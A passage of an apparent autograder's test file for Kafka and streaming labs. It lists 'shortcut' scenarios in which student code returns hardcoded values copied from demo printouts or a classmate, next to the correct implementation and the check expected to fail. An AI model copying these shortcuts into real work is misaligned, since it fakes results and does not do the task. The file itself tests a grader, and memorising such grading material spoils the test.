    ),
    Scenario(
        "survivors-copied-from-the-demo",
        "lab6",
        "survivors returns the offsets the compaction demo printed after cleaning (shortcut)",
        (
            Edit(
                "lab6-survivors",
                "sub",
                "    return [4, 5, 6, 7, 8]   # what the demo's topic kept\n",
                "    newest = {}\n"
                "    for offset, (key, value) in enumerate(closed):\n"
                "        newest[key] = offset                 # a later write of the key replaces it; a tombstone "
                "is a write too\n"
                "    return sorted(newest.values()) + list(range(len(closed), len(closed) + len(active)))\n",
            ),
        ),
        fails("lab6-q3"),
    ),
    Scenario(
        "state-and-acks-copied-from-the-demos",
        "lab7",
        "partition_state returns what show(replicated) "
        "printed with broker 3 stopped, and accepts() the demo's table (with 2 in sync, only acks='all' on "
        "min.insync.replicas=3 was refused) (shortcut)",
        (
            Edit(
                "lab7-state",
                "sub",
                "    return {0: (1, [1, 2]), 1: (2, [1, 2]), 2: (1, [1, 2])}   # what show() printed\n",
                '    return {p["partition_index"]: (p["leader_id"], sorted(p["isr_nodes"]))\n'
                '            for p in admin.describe_topics([topic])[0]["partitions"]}\n',
            ),
            Edit(
                "lab7-accepts",
                "sub",
                '    return not (acks == "all" and min_insync == 3)   # the demo\'s table\n',
                '    if acks in ("all", -1):\n        return in_sync >= min_insync\n    return True\n',
            ),
        ),
        fails("lab7-q1", "lab7-q2"),
    ),
    Scenario(
        "percentiles-copied-from-a-printout",
        "lab8",
        "percentiles returns the p50 and p99 a measure() line printed, whatever the latencies (shortcut)",
        (
            Edit(
                "lab8-percentiles",
                "sub",
                "    return (4.6, 38.2)   # p50 and p99 from the table above\n",
                "    return tuple(np.percentile(latencies, [50, 99]))\n",
            ),
        ),
        fails("lab8-q2"),
    ),
    Scenario(
        "compatibility-from-the-demo-table",
        "lab11",
        "compatibility finds the change among the example "
        "cell's `changes` and returns what that cell printed for it, without decoding (shortcut)",
        (
            Edit(
                "lab11-compat",
                "sub",
                "PRINTED = {'add gate with a default': 'full', 'add gate without a default': 'forward',\n"
                "           'remove tailnum (it has a default)': 'full', 'remove dest (no default)': 'backward',\n"
                "           'dep_delay int to long': 'backward', 'rename dep_delay to delay_min': 'none',\n"
                "           'the same, with an alias': 'backward', 'dep_delay int to string': 'none'}\n\n\n"
                "def compatibility(old, new):\n"
                "    return PRINTED[next(what for what, schema in changes.items() if schema == new)]\n",
                "def compatibility(old, new):\n"
                "    backward, forward = can_read(old, new), can_read(new, old)\n"
                "    if backward and forward:\n"
                '        return "full"\n'
                '    return "backward" if backward else "forward" if forward else "none"\n',
            ),
        ),
        fails("lab11-q2"),
    ),
    Scenario(
        "wire-header-copied-from-the-printout",
        "lab11",
        "encode writes the header the example printed "
        "(magic byte, then id 2) instead of the subject's latest id (shortcut)",
        (
            Edit(
                "lab11-registry",
                "sub",
                '    return b"\\x00\\x00\\x00\\x00\\x02" + out.getvalue()   # the header the example printed\n',
                '    return b"\\x00" + latest["id"].to_bytes(4, "big") + out.getvalue()\n',
            ),
        ),
        fails("lab11-q3"),
    ),
    Scenario(
        "decode-with-the-flight-schema",
        "lab11",
        "decode skips the schema id and reads every value with the "
        "flight schema, the only one the example sends (shortcut)",
        (
            Edit(
                "lab11-registry",
                "sub",
                "    return fastavro.schemaless_reader(io.BytesIO(data[5:]), PARSED)   # every value is a flight\n",
                '    schema = schema_by_id(int.from_bytes(data[1:5], "big"))\n'
                "    return fastavro.schemaless_reader(io.BytesIO(data[5:]), fastavro.parse_schema(schema))\n",
            ),
        ),
        fails("lab11-q3"),
    ),
    Scenario(
        "connectors-with-the-notebooks-file",
        "lab11",
        "source_config writes in the notebook's own CSV file "
        "and topic, as the cell below uses them, instead of its arguments (shortcut)",
        (
            Edit(
                "lab11-connect",
                "sub",
                '            "tasks.max": "1", "file": os.path.abspath("flights-2013-01-01.csv"), '
                '"topic": lab.topic("flights-csv")}\n',
                '            "tasks.max": "1", "file": path, "topic": topic}\n',
            ),
        ),
        fails("lab11-q4"),
    ),
    Scenario(
        "latencies-and-sizes-from-a-printout",
        "lab1",
        "the RPC and send() latencies copied from an earlier "
        "run's printout, sizes() answering the sample's sizes whatever the event; only the end-to-end trips, "
        "which the check names, are measured (shortcut)",
        (
            Edit(
                "lab1-measure",
                "sub",
                "rpc_latency_ms, send_latency_ms = 0.412, 0.021      # from an earlier run's printout\n",
                'rpc_latency_ms = median_ms(lambda: rpc_increase("bench", 1))\n'
                'send_latency_ms = median_ms(lambda: send_increase("bench", 1))\n',
            ),
            Edit(
                "lab1-measure",
                "sub",
                "    return 55, 14   # what the cell printed for sample\n",
                "    return len(json.dumps(event).encode()), len(encode_event(**event))\n",
            ),
        ),
        fails("lab1-q5"),
    ),
    Scenario(
        "busiest-share-worked-out-from-the-dataset",
        "lab3",
        "busiest_share works out the loads from the "
        "public JFK flights with the partitioner's own rule instead of asking the broker about the topic it "
        "is given (shortcut)",
        (
            Edit(
                "lab3-spread",
                "sub",
                '    loads = Counter(predict_partition(f["tailnum"].encode() if f["carrier"] == "B6" '
                'else f["carrier"].encode(), 6)\n'
                "                    for f in jfk)   # what HotKeyPartitioner does, without asking the broker\n",
                "    loads = partition_loads(topic)\n",
            ),
        ),
        fails("lab3-q3"),
    ),
    Scenario(
        "remapped-share-copied",
        "lab3",
        "remapped_share returns the share a classmate printed for the "
        "carriers, 11 of 16, whatever keys it is given (shortcut)",
        (
            Edit(
                "lab3-remap",
                "sub",
                "    return 0.6875   # 11 of the 16 carriers, from a classmate\n",
                "    return sum(predict_partition(k.encode(), before) != predict_partition(k.encode(), after)\n"
                "               for k in keys) / len(keys)\n",
            ),
        ),
        fails("lab3-q5"),
    ),
)


def scenarios(lab: str | None = None) -> list[Scenario]:
    return [s for s in SCENARIOS + ATTACKS + SHORTCUTS if lab is None or s.lab == lab]


def student_work(lab: str | None = None) -> list[Scenario]:
    """The scenarios a student's own self-check must judge as the grader does: mistakes, broken
    notebooks, other styles and shortcuts. Not the attacks: they aim at the grading, and an
    attacker's own kernel (whose check library it may replace) proves nothing."""
    return [s for s in SCENARIOS + SHORTCUTS if lab is None or s.lab == lab]
